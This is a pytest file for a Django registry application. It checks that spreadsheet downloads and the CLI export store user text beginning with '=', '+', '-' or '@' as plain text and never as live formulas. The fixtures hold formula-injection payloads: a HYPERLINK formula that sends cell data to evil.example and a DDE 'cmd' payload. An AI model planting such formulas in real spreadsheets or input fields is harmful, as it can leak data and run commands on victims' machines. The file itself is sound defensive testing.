"""Every spreadsheet the product writes keeps user text as text: a task, an indicator, a unit of measure or
a note starting with "=", "+", "-" or "@" is a string cell, never a live formula (issue 13 §4)."""

from __future__ import annotations

import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from trongtam.registry.cycles import services as cycles
from trongtam.registry.progress import services as progress

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
STARTS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile(small, settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    cast = small.cast
    field = cycles.field_get_or_create(cycle=small.cycle, title=STARTS[3], number="II")
    task = cycles.key_task_create(cycle=small.cycle, field=field, number="4", text=EVIL)
    task.lead_units.add(cast.unit)
    targets = [
        cycles.target_create(key_task=task, indicator=text, value=Decimal(i + 1), unit=STARTS[1])
        for i, text in enumerate(STARTS)
    ]
    q1 = small.periods[("quarter", 1)]
    report = progress.report_get_or_create(period=q1, unit=cast.unit)
    progress.entry_save(
        report=report,
        target=targets[0],
        kind="estimate",
        value=Decimal("250"),
        version=None,
        note=STARTS[2],
        user=cast.unit_staff,
    )
    return small, q1


def _formulas(content: bytes) -> list[tuple[str, object]]:
    """Every cell of every sheet that openpyxl (and so Excel) would treat as a formula."""
    wb = load_workbook(io.BytesIO(content))
    return [
        (f"{ws.title}!{c.coordinate}", c.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=") and c.data_type != "s")
    ]


def _texts(content: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(content))
    return {
        c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }


def test_no_download_writes_user_text_as_a_formula(client, hostile):
    small, q1 = hostile
    cast = small.cast
    cycle = small.cycle
    client.force_login(cast.unit_staff)
    downloads = {
        "unit's form": reverse("web:progress_form_download", args=[cycle.id, q1.id, cast.unit.id]),
        "unit's progress": reverse("web:document_xlsx", args=[cycle.id, "tien-do"])
        + f"?ky={q1.id}&don_vi={cast.unit.id}",
    }
    for name, url in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, name
        assert _formulas(response.content) == [], name
        assert EVIL in _texts(response.content), name
    client.force_login(cast.coordinator)
    for table in ("danh-muc", "chi-tieu", "tien-do", "danh-gia"):
        url = reverse("web:document_xlsx", args=[cycle.id, table]) + f"?ky={q1.id}"
        response = client.get(url)
        assert response.status_code == 200, table
        assert _formulas(response.content) == [], table
        if table != "danh-gia":
            assert EVIL in _texts(response.content), table


def test_the_export_command_writes_user_text_as_text(hostile, tmp_path: Path, capsys):
    from trongtam.cli.main import main

    small, _ = hostile
    out = tmp_path / "dot.xlsx"
    try:
        main(["export", str(small.cycle.pk), "-o", str(out)])
    except SystemExit as exc:
        assert exc.code in (0, None), capsys.readouterr().err
    content = out.read_bytes()
    assert _formulas(content) == []
    assert EVIL in _texts(content)


def test_a_whole_number_has_no_trailing_separator_in_excel(hostile, client):
    small, q1 = hostile
    client.force_login(small.cast.unit_staff)
    url = reverse("web:progress_form_download", args=[small.cycle.id, q1.id, small.cast.unit.id])
    ws = load_workbook(io.BytesIO(client.get(url).content)).worksheets[0]
    [cell] = [c for row in ws.iter_rows() for c in row if c.value == 250]
    assert cell.number_format == "#,##0"
